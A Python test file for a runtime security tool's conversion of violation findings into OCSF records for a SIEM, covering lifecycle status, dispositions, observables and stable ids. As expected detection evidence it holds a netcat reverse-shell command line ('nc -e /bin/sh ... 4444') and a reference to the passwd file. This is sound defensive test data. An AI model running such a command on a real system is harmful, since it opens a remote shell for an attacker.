"""What a SIEM relies on beyond validity: lifecycle status, alerting, action and
disposition pairs, observables, a lean ``unmapped``, stable ids, lossless reading back."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas import Disposition, ProcessInfo, decode, encode, from_ocsf, to_ocsf
from schemas import topics as t
from tests.ocsf_official import raw_schema
from tests.unit.schemas.violation_shapes import EVIDENCE_KINDS, all_shapes, lifecycle, violation

TESTDATA = Path(__file__).parent / "testdata"
# finding_info.uid of violation(): stable_id(container, rule, subject, window), as it was
# before the OCSF 1.8 layout; consumers upsert on it, so it must never change.
PINNED_FINDING_UID = "4d8631a4-5a5b-5785-8769-72baef842294"


def test_every_shape_reads_back_to_the_same_violation() -> None:
    shapes = list(all_shapes())
    changed = [name for name, v in shapes if decode(t.VIOLATIONS, encode(v)) != v]
    assert changed == [] and len(shapes) > 900


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\x00"), max_size=12), max_size=6))
def test_argv_reads_back_exactly_from_cmd_line(argv: list[str]) -> None:
    proc = ProcessInfo(pid=5, ppid=1, uid=0, comm="x", argv=tuple(argv))
    v = violation(evidence=EVIDENCE_KINDS["process"].model_copy(update={"process": proc}))
    assert from_ocsf(to_ocsf(v)).evidence.process == proc


def test_findings_written_before_the_18_layout_still_read() -> None:
    """A finding recorded from the previous to_ocsf: replays of the topic must decode it."""
    raw = (TESTDATA / "legacy_finding.json").read_bytes()
    want = violation(evidence=EVIDENCE_KINDS["all"], activity="update", disposition="paused")
    assert decode(t.VIOLATIONS, raw) == want


def test_finding_uid_is_unchanged_and_the_same_on_every_event_of_a_finding() -> None:
    uids = {to_ocsf(v)["finding_info"]["uid"] for v in lifecycle("process.reverse_shell")}
    assert uids == {PINNED_FINDING_UID}


@pytest.mark.parametrize(
    ("activity", "status_id", "status", "alert"),
    [("create", 1, "New", True), ("update", 2, "In Progress", False), ("close", 4, "Resolved", False)],
)
def test_status_and_alert_follow_the_lifecycle(
    activity: str, status_id: int, status: str, alert: bool
) -> None:
    for v in lifecycle("memory.level"):
        if v.activity == activity:
            doc = to_ocsf(v)
            assert (doc["status_id"], doc["status"], doc["is_alert"]) == (status_id, status, alert)


@pytest.mark.parametrize(
    ("disposition", "action_id", "disposition_id"),
    [("detected", 3, 15), ("throttled", 4, 14), ("paused", 2, 4), ("terminated", 2, 2)],
)
def test_enforce_mode_pairs_action_and_disposition(
    disposition: str, action_id: int, disposition_id: int
) -> None:
    doc = to_ocsf(violation(disposition=disposition, mode="enforce"))
    assert (doc["action_id"], doc["disposition_id"]) == (action_id, disposition_id)


def test_audit_mode_observed_and_detected_whatever_would_be_done() -> None:
    for d in Disposition:
        v = violation(disposition=d, mode="audit")
        doc = to_ocsf(v)
        assert (doc["action_id"], doc["disposition_id"]) == (3, 15)
        assert from_ocsf(doc).disposition is d


def test_each_pair_is_one_the_official_dictionary_describes() -> None:
    """OCSF's action_id descriptions name the dispositions that conform to each action."""
    attrs = raw_schema()["classes"]["detection_finding"]["attributes"]
    actions, dispositions = attrs["action_id"]["enum"], attrs["disposition_id"]["enum"]
    for _, v in all_shapes():
        doc = to_ocsf(v)
        described = actions[str(doc["action_id"])]["description"]
        caption = dispositions[str(doc["disposition_id"])]["caption"]
        assert re.search(rf"'{caption}'", described), (doc["action"], caption)


def _observed(doc: dict[str, Any]) -> dict[str, str]:
    return {o["name"]: o["value"] for o in doc["observables"]}


def test_observables_for_host_container_image_process_user() -> None:
    v = violation(evidence=EVIDENCE_KINDS["all"])
    seen = _observed(to_ocsf(v))
    proc = v.evidence.process
    assert proc is not None
    assert seen == {
        "device.hostname": v.host,
        "resources[0].uid": v.container_id,
        "resources[0].name": v.container_name,
        "device.container.image.uid": v.image,
        "evidences[0].process.pid": str(proc.pid),
        "evidences[0].process.name": proc.comm,
        "evidences[0].process.cmd_line": "nc -e /bin/sh 127.0.0.1 4444",
        "evidences[0].process.user.uid": str(proc.uid),
        "evidences[1].script.script_content": v.evidence.command,
        "evidences[2].file.path": v.evidence.path,
        "evidences[2].file.name": "passwd",
    }


def test_unmapped_holds_only_what_ocsf_has_no_place_for() -> None:
    mapped = {"rule_id", "violation_type", "detected_time", "title"}
    allowed = {
        "schema_version",
        "mode",
        "sample_time",
        "time",
        "disposition",
        "image",
        "evidence",
        "labels",
        "policy_version",
    }
    for name, v in all_shapes():
        ours = to_ocsf(v)["unmapped"]["sandguard"]
        assert set(ours) <= allowed and not (set(ours) & mapped), name
        assert set(ours.get("evidence", {}).get("process", {})) <= {"argv_truncated", "state"}, name
        assert ("image" in ours) == (not v.host and bool(v.image)), name
        assert ("time" in ours) == (v.time != v.sample_time), name
        assert ("labels" in ours) == any("=" in k for k in v.labels), name


def test_unknown_values_are_omitted_never_null_or_empty() -> None:
    def leaves(x: object, at: str = "") -> list[tuple[str, object]]:
        if isinstance(x, dict):
            return [p for k, y in x.items() for p in leaves(y, f"{at}.{k}")]
        if isinstance(x, list):
            return [(at, x)] if not x else [p for i, y in enumerate(x) for p in leaves(y, f"{at}[{i}]")]
        return [(at, x)]

    for name, v in all_shapes():
        doc = json.loads(encode(v))
        doc.pop("evidences", None)  # sample values are the kernel's numbers, nulls included
        empty = [(at, x) for at, x in leaves(doc) if x is None or x == "" or x == []]
        assert empty == [], name


def test_a_finding_without_a_host_keeps_its_container_and_image() -> None:
    v = violation(host="")
    doc = to_ocsf(v)
    assert "device" not in doc and doc["resources"][0]["uid"] == v.container_id
    assert from_ocsf(doc) == v


def test_a_registry_port_is_not_a_tag() -> None:
    image = to_ocsf(violation(image="registry.local:5000/team/img"))["device"]["container"]["image"]
    assert image == {"uid": "registry.local:5000/team/img", "name": "registry.local:5000/team/img"}
    tagged = to_ocsf(violation(image="registry.local:5000/img:2.1@sha256:ab"))["device"]["container"]["image"]
    assert tagged["name"] == "registry.local:5000/img" and tagged["tags"] == [{"name": "tag", "value": "2.1"}]


def test_a_kernel_connection_is_a_destination_endpoint_with_its_observables() -> None:
    doc = to_ocsf(violation("process.reverse_shell", evidence=EVIDENCE_KINDS["connection"]))
    item = doc["evidences"][2]
    assert item == {
        "dst_endpoint": {"ip": "127.0.0.1", "port": 4444},
        "connection_info": {
            "direction_id": 2,
            "direction": "Outbound",
            "protocol_name": "tcp",
            "protocol_num": 6,
        },
    }
    seen = _observed(doc)
    assert (seen["evidences[2].dst_endpoint.ip"], seen["evidences[2].dst_endpoint.port"]) == (
        "127.0.0.1",
        "4444",
    )


def test_an_address_that_is_not_one_gives_no_endpoint() -> None:
    doc = to_ocsf(violation("process.reverse_shell", evidence=EVIDENCE_KINDS["connection-odd"]))
    endpoints = [i["dst_endpoint"] for i in doc["evidences"] if "dst_endpoint" in i]
    assert endpoints == [{"ip": "127.0.0.1"}]  # 10.0.0.300 and "" dropped, port -1 omitted
